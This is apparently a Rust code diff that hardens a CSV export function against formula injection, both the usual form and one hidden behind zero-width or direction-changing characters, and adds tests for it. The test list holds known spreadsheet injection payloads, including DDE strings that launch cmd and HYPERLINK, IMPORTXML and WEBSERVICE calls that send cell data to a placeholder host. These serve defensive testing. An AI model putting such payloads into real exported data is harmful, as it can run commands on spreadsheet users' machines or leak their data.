@@ -16,8 +16,7 @@ const TRIGGERS: &[char] =
 #[must_use]
 pub fn csv_cell(text: &str) -> String {
     let is_ignorable = |c: char| {
-        c.is_whitespace() && !TRIGGERS.contains(&c)
-            || matches!(c, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{00ad}')
+        is_zero_width(c) || (c.is_whitespace() || c.is_control()) && !TRIGGERS.contains(&c)
     };
     let guarded = text.trim_start_matches(is_ignorable).starts_with(TRIGGERS);
     let mut clean: String = text
@@ -34,6 +33,17 @@ pub fn csv_cell(text: &str) -> String {
         clean.insert(0, '\'');
     }
     format!("\"{}\"", clean.replace('"', "\"\""))
+}
+
+/// Code points without a width, behind which a formula would look like the first thing in its cell: Unicode's
+/// `Default_Ignorable_Code_Point`, and the marks of annotations.
+fn is_zero_width(c: char) -> bool {
+    matches!(c,
+        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
+        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
+        | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
+        | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
+        | '\u{e0000}'..='\u{e0fff}')
 }
 
 /// Text for a page or figure: no control characters, nothing that turns the reading direction, white space
@@ -128,6 +138,82 @@ mod tests {
     }
 
     #[test]
+    fn payloads_seen_elsewhere_are_inert() {
+        for formula in [
+            "=1+1",
+            "=cmd|'/C calc'!A0",
+            "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
+            "=IMPORTXML(A1,\"//a\")",
+            "=WEBSERVICE(\"http://x\")",
+            "=DDE(\"cmd\";\"/C calc\";\"x\")",
+            "=@SUM(1)",
+            "==1",
+            "=",
+            "+",
+            "-",
+            "@",
+            "+1+1",
+            "+46701234567",
+            "+cmd|'/C calc'!A0",
+            "-1+1",
+            "-2+3+cmd|'/C calc'!D2",
+            "-5",
+            "--1",
+            "@SUM(1+1)*cmd|'/C calc'!A0",
+            "@A1",
+            "|cmd",
+            "|",
+            "%0A=1",
+            "%3D1+1",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "\0=1",
+            "\u{7}=1",
+            "\u{85}=1",
+            "\u{2028}=1",
+            " =1",
+            "\u{a0}=1",
+            "\u{3000}=1",
+            "\u{feff}=1",
+            "\u{feff}\u{feff} =1",
+            "\u{200b}=1",
+            "\u{200d}+1",
+            "\u{200e}=1",
+            "\u{202e}=1",
+            "\u{2066}=1",
+            "\u{2060}=1",
+            "\u{2063}=1",
+            "\u{ad}=1",
+            "\u{34f}=1",
+            "\u{61c}@x",
+            "\u{180e}=1",
+            "\u{3164}=1",
+            "\u{fe0f}=1",
+            "\u{fff9}=1",
+            "\u{e0020}=1",
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠SUM(A1)",
+            " \u{200b}\t＝1",
+            "\u{1}\u{feff}-1",
+            "=1\n=2",
+        ] {
+            let cell = unquoted(&csv_cell(formula));
+            assert!(cell.starts_with('\''), "{formula:?}: {cell:?}");
+        }
+        for plain in
+            ["Sales", "1+1", "a=b", "A@b", "50 %", "x|y", "'=1", "\"=1", ";=1", ",=1", "–1", "#1"]
+        {
+            assert!(
+                !unquoted(&csv_cell(plain)).starts_with('\'') || plain.starts_with('\''),
+                "{plain:?}"
+            );
+        }
+    }
+
+    #[test]
     fn thousands() {
         assert_eq!(
             [0, 999, 1_000, 18_204, 1_000_000].map(grouped),
@@ -151,6 +237,17 @@ mod tests {
             let cell = unquoted(&csv_cell(&text));
             prop_assert!(!cell.trim_start().starts_with(TRIGGERS), "{cell:?}");
             prop_assert!(!cell.contains(|c: char| c.is_control()));
+        }
+
+        /// Random text seldom begins with a trigger; this one always does, behind what cannot be seen.
+        #[test]
+        fn a_hidden_formula_is_always_seen(
+            before in "[\\s\\p{Cc}\u{ad}\u{200b}-\u{200f}\u{202a}-\u{202e}\u{2060}-\u{206f}\u{feff}]{0,6}",
+            trigger in proptest::sample::select(TRIGGERS),
+            rest in any::<String>(),
+        ) {
+            let cell = unquoted(&csv_cell(&format!("{before}{trigger}{rest}")));
+            prop_assert!(cell.starts_with('\''), "{cell:?}");
         }
 
         #[test]
